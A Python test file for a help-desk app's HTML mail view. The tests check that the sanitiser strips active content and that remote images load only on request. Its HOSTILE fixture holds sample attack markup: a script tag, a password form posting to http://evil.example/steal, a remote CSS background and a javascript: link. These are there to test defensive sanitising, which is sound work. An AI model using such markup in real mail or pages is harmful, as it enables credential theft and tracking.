"""HTML mail in the case view: rendered, cleaned again, remote images only when asked."""

from datetime import UTC, datetime

from PySide6.QtCore import QUrl
from PySide6.QtWidgets import QTextBrowser

from omnidesk.core.ids import AttachmentId, MessageId
from omnidesk.services.cases import case_detail
from omnidesk.ui.export import case_document
from omnidesk.ui.mainwindow import MainWindow
from omnidesk.ui.views.safe_html import display_html

from .helpers import WAIT_MS, started
from .mail_with_files import html_mail, image_server, ingest, png_bytes

# A query with "&": the address is HTML-escaped in the markup and must still match.
ONE = "/one.png?size=8&v=2"
HOSTILE = (
    "<p>Hello <b>team</b>,</p>"
    "<script>document.title = 'owned'</script>"
    "<form action='http://evil.example/steal'><input name='pw'><button>Go</button></form>"
    "<p style='background-image:url(http://evil.example/bg.png); color:#ff0000'>red</p>"
    "<a href='javascript:alert(1)'>click</a>"
)


def _click(window: MainWindow, link: str) -> None:
    browser = window.detail_pane.findChild(QTextBrowser, "conversation")
    assert browser is not None
    browser.anchorClicked.emit(QUrl(link))


def test_display_cleaning_keeps_text_and_drops_anything_active():
    shown = display_html(
        HOSTILE + "<img src='http://evil.example/x.png'><img src='cid:a@b'>",
        inline={"a@b": AttachmentId(7)},
    )
    assert "<b>team</b>" in shown.html
    assert "script" not in shown.html
    assert "owned" not in shown.html
    assert "<form" not in shown.html
    assert "<input" not in shown.html
    assert "evil.example" not in shown.html
    assert "javascript" not in shown.html
    assert "color:#ff0000" in shown.html
    assert "omnidesk-inline:7" in shown.html
    assert shown.images_blocked == 1


def test_html_mail_is_rendered_and_remote_images_load_only_when_asked(demo_db, make_window, qtbot):
    with image_server() as server:
        server.images[ONE] = png_bytes("green")
        server.images["/two.png"] = png_bytes("yellow")
        first, first_id = html_mail(
            HOSTILE + f"<p>Look: <img src='{server.url(ONE)}' alt='photo one'></p>"
        )
        number = ingest(demo_db, first)
        second, _ = html_mail(
            f"<p>And this: <img src='{server.url('/two.png')}' alt='photo two'></p>",
            in_reply_to=first_id,
            subject="Re: Broken router",
        )
        assert ingest(demo_db, second) == number
        messages = case_detail(demo_db, number).messages
        window = started(qtbot, make_window(demo_db, agent="anna"), case=number)
        pane = window.detail_pane

        qtbot.wait(300)  # give a stray request every chance to happen
        qtbot.waitUntil(window.task_runner.is_idle, timeout=WAIT_MS)
        assert server.requests == []
        text = pane.conversation_text()
        assert "Hello team," in text  # rendered, not shown as markup
        assert "<b>" not in text
        assert "owned" not in text
        assert "Go" not in text.split()
        assert text.count("Remote images were blocked.") == 2
        html = pane.conversation_html()
        assert "127.0.0.1" not in html
        assert "evil.example" not in html

        _click(window, f"omnidesk:message/{messages[0].id}/load-images")
        url = server.url(ONE)
        qtbot.waitUntil(lambda: pane.image_resource(url) is not None, timeout=WAIT_MS)
        qtbot.waitUntil(window.task_runner.is_idle, timeout=WAIT_MS)

        assert server.requests == [ONE]  # exactly that image, only that message
        image = pane.image_resource(url)
        assert image is not None
        assert image.pixelColor(1, 1).name() == "#008000"
        html = pane.conversation_html()
        assert url.replace("&", "&amp;") in html
        assert server.url("/two.png") not in html
        assert pane.conversation_text().count("Remote images were blocked.") == 1
        assert not pane.loading_images()


def test_images_that_cannot_be_fetched_are_named(demo_db, make_window, qtbot):
    with image_server() as server:
        raw, _ = html_mail(f"<p><img src='{server.url('/missing.png')}' alt='gone'></p>")
        number = ingest(demo_db, raw)
        message = case_detail(demo_db, number).messages[0]
        window = started(qtbot, make_window(demo_db, agent="anna"), case=number)

        window.detail_pane.load_images(MessageId(message.id))
        qtbot.waitUntil(lambda: server.requests == ["/missing.png"], timeout=WAIT_MS)
        qtbot.waitUntil(lambda: not window.detail_pane.loading_images(), timeout=WAIT_MS)

        assert "1 of the images could not be loaded." in window.detail_pane.conversation_text()


def test_plain_text_mail_stays_text(demo_db, make_window, qtbot):
    raw, _ = html_mail("<p>x</p>")
    number = ingest(demo_db, raw)
    window = started(qtbot, make_window(demo_db, agent="anna"), case=number)
    assert "Remote images were blocked." not in window.detail_pane.conversation_text()


def test_the_images_bar_speaks_german(german, demo_db, make_window, qtbot):
    raw, _ = html_mail("<p><img src='https://example.net/logo.png' alt='Logo'></p>")
    number = ingest(demo_db, raw)
    window = started(qtbot, make_window(demo_db, agent="anna"), case=number)
    text = window.detail_pane.conversation_text()
    assert "Externe Bilder wurden blockiert." in text
    assert "Bilder laden" in text


def test_the_printed_case_shows_html_mail_without_loading_anything(demo_db, qapp):
    with image_server() as server:
        raw, _ = html_mail(
            f"<p>Hello <b>team</b> <img src='{server.url('/one.png')}' alt='one'>"
            "<img src='cid:photo@kim'></p>",
            inline_png=("photo@kim", png_bytes("blue")),
        )
        number = ingest(demo_db, raw)
        document = case_document(case_detail(demo_db, number), datetime.now(UTC))
        document.size()  # lays the document out: every image is asked for now
        assert "Hello team" in document.toPlainText()
        assert "Remote images were blocked" not in document.toPlainText()
        assert server.requests == []
